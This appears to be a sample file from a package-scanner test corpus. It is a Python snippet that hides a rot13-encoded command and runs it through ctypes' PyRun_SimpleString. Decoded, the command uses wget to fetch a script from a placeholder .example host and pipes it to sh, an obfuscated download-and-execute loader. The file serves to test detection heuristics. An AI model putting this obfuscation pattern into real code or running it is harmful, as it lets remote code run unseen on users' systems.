# pkgguard corpus 706 (indirection), modelled on [scanner-heuristics]; inert, never run.
import codecs
import ctypes

_S = "vzcbeg bf; bf.flfgrz('jtrg -dB- uggcf://cleha-pnpur.rknzcyr/k | fu')"
ctypes.pythonapi.PyRun_SimpleString(codecs.decode(_S, "rot13").encode())
